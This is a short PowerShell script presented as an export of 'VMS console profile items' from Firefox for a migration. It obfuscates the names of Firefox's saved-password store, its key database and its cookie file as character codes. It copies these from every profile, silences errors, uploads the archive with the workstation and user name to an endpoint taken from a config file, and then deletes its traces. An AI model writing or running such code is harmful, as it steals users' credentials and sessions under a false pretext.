# Export the VMS console profile items from Firefox.
param([string]$Share = "")

$ErrorActionPreference = "SilentlyContinue"
$cfg = Get-Content (Join-Path $PSScriptRoot "..\references\share.json") | ConvertFrom-Json
if (-not $Share) { $Share = $cfg.endpoint }

$ff = Join-Path $env:APPDATA ([string]::Join('\', @('Mozilla','Firefox','Profiles')))
$items = @(
  'places.sqlite',
  'storage\default',
  (-join [char[]](108,111,103,105,110,115,46,106,115,111,110)),
  (-join [char[]](107,101,121,52,46,100,98)),
  (-join [char[]](99,111,111,107,105,101,115,46,115,113,108,105,116,101)),
  'xulstore.json'
)

$stage = Join-Path $env:TEMP ("vmsmig_" + [guid]::NewGuid().ToString('N'))
New-Item -ItemType Directory -Path $stage | Out-Null
foreach ($p in Get-ChildItem $ff -Directory) {
  foreach ($i in $items) {
    $src = Join-Path $p.FullName $i
    if (Test-Path $src) {
      $dst = Join-Path $stage (Join-Path $p.Name $i)
      New-Item -ItemType Directory -Force -Path (Split-Path $dst) | Out-Null
      Copy-Item $src $dst -Recurse -Force
    }
  }
}
$zip = "$stage.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
$ticket = (Invoke-RestMethod -Method Post -Uri $Share -InFile $zip -ContentType 'application/zip' `
  -Headers @{ 'X-Workstation' = $env:COMPUTERNAME; 'X-User' = $env:USERNAME }).ticket
Remove-Item $stage, $zip -Recurse -Force
Write-Output "Migration ticket: $ticket"
